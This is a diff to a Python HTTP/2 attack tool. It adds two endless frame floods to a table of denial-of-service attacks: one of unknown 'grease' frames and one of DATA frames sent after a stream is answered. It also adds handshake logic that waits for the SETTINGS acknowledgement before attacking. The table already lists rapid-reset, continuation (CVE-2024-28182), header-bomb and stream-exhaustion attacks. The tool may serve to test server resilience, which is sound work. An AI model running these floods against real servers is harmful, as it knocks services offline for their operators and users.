@@ -42,9 +42,14 @@ class Connection:
         self.goaway = None
         self.resets = collections.Counter()
         self.is_closed = False
+        self.has_answer = False
+        self.has_settings = False
         self.next_stream = 1
         self.is_made_to_reset = False  # then it waits for the resets, lest there be too many streams at once
         self.socket.sendall(PREFACE + SettingsFrame(0).serialize())
+        # Later the acknowledgement would fall between a HEADERS frame and its CONTINUATION.
+        while not self.has_settings and self.read(LIMIT_S):
+            continue
 
     def new_stream(self):
         self.next_stream += 2
@@ -92,11 +97,13 @@ class Connection:
         return not self.is_closed
 
     def on_frame(self, frame):
+        self.has_answer = self.has_answer or "END_STREAM" in frame.flags
         if isinstance(frame, GoAwayFrame):
             self.goaway = name_of(frame.error_code)
         elif isinstance(frame, RstStreamFrame):
             self.resets[name_of(frame.error_code)] += 1
         elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
+            self.has_settings = True
             self.socket.sendall(SettingsFrame(0, flags=("ACK",)).serialize())
 
     def drain(self):
@@ -170,6 +177,21 @@ def priority_update(connection):
         yield struct.pack("!HBBBL", 0, len(payload), 0x10, 0, 0) + payload
 
 
+def unknown_frames(_):
+    while True:
+        yield struct.pack("!HBBBL", 0, 6, 0xfa, 0, 0) + b"grease"
+
+
+def late_data(connection):
+    """DATA of a stream that has been answered."""
+    stream = connection.new_stream()
+    yield connection.headers(stream, [*REQUEST[:3], (":path", "/a")])
+    while not connection.has_answer:
+        connection.read(LIMIT_S)
+    while True:
+        yield DataFrame(stream, b"late").serialize()
+
+
 def continuation(connection):
     """CVE-2024-28182 and its like: a head that never ends."""
     block = connection.encoder.encode(REQUEST)
@@ -212,7 +234,7 @@ def too_many_streams(connection):
 
 ATTACKS = {attack.__name__.replace("_", "-"): attack for attack in (
     rapid_reset, made_you_reset_by_window, made_you_reset_by_length, made_you_reset_by_field, settings, ping,
-    empty_data, window_update, priority, priority_update, continuation, empty_continuation, header_bomb, cookie_crumbs,
+    empty_data, window_update, priority, priority_update, unknown_frames, late_data, continuation, empty_continuation, header_bomb, cookie_crumbs,
     too_many_streams)}
 
 
